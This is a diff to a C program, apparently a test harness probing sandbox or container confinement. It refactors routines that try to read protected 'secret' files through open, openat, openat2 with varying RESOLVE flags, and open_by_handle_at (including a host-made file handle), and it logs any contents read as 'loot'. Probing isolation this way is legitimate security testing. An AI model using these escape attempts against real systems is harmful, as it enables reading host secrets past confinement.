@@ -49,17 +49,23 @@ static void loot_ino(const char *what, const char *path, unsigned long ino)
 	dprintf(LOOT_FD, "%s %s: ino=%lu\n", what, path, ino);
 }
 
-/* Read what a path gives and keep it. */
-static void take(const char *what, const char *path)
+/* Read what an fd the attack opened gives, keep it, close the fd (none
+ * when the open failed: fd < 0). */
+static void take_fd(const char *what, const char *path, long fd)
 {
-	int fd = open(path, O_RDONLY);
 	if (fd < 0)
 		return;
 	char buf[256];
-	ssize_t n = read(fd, buf, sizeof(buf));
+	ssize_t n = read((int)fd, buf, sizeof(buf));
 	if (n > 0)
 		loot(what, path, buf, (size_t)n);
-	close(fd);
+	close((int)fd);
+}
+
+/* Read what a path gives and keep it. */
+static void take(const char *what, const char *path)
+{
+	take_fd(what, path, open(path, O_RDONLY));
 }
 
 static char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));
@@ -112,27 +118,15 @@ static void fam_open(void)
 {
 	for (int i = 0; i < nsecrets; i++) {
 		take("open", secrets[i]);
-		int fd = openat(AT_FDCWD, secrets[i], O_RDONLY | O_NOFOLLOW);
-		if (fd >= 0) {
-			char b[128];
-			ssize_t n = read(fd, b, sizeof(b));
-			if (n > 0)
-				loot("openat-nofollow", secrets[i], b, (size_t)n);
-			close(fd);
-		}
+		take_fd("openat-nofollow", secrets[i],
+			openat(AT_FDCWD, secrets[i], O_RDONLY | O_NOFOLLOW));
 		/* openat2 with and without RESOLVE_* confinement of its own. */
 		for (unsigned long res = 0; res <= 0x10; res += 0x08) {
 			struct {
 				unsigned long long flags, mode, resolve;
 			} how = {O_RDONLY, 0, res};
-			long f2 = syscall(SYS_openat2, AT_FDCWD, secrets[i], &how, sizeof(how));
-			if (f2 >= 0) {
-				char b[128];
-				ssize_t n = read((int)f2, b, sizeof(b));
-				if (n > 0)
-					loot("openat2", secrets[i], b, (size_t)n);
-				close((int)f2);
-			}
+			take_fd("openat2", secrets[i],
+				syscall(SYS_openat2, AT_FDCWD, secrets[i], &how, sizeof(how)));
 		}
 	}
 	for (int i = 0; i < noutsides; i++) {
@@ -462,14 +456,8 @@ static void fam_handle(void)
 		if (syscall(SYS_name_to_handle_at, AT_FDCWD, secrets[i], &fh, &mnt, 0) != 0)
 			continue;
 		int root = open("/", O_RDONLY | O_DIRECTORY);
-		long fd = syscall(SYS_open_by_handle_at, root, &fh, O_RDONLY);
-		if (fd >= 0) {
-			char b[128];
-			ssize_t n = read((int)fd, b, sizeof(b));
-			if (n > 0)
-				loot("open_by_handle_at", secrets[i], b, (size_t)n);
-			close((int)fd);
-		}
+		take_fd("open_by_handle_at", secrets[i],
+			syscall(SYS_open_by_handle_at, root, &fh, O_RDONLY));
 		close(root);
 	}
 	/* A handle made on the host for the secret, given as a file. */
@@ -478,13 +466,8 @@ static void fam_handle(void)
 		unsigned char raw[136];
 		ssize_t n = read(hf, raw, sizeof(raw));
 		int root = open("/", O_RDONLY | O_DIRECTORY);
-		long fd = n > 8 ? syscall(SYS_open_by_handle_at, root, raw, O_RDONLY) : -1;
-		if (fd >= 0) {
-			char b[128];
-			ssize_t m = read((int)fd, b, sizeof(b));
-			if (m > 0)
-				loot("open_by_handle_at-host", "handle", b, (size_t)m);
-		}
+		take_fd("open_by_handle_at-host", "handle",
+			n > 8 ? syscall(SYS_open_by_handle_at, root, raw, O_RDONLY) : -1);
 	}
 }
 
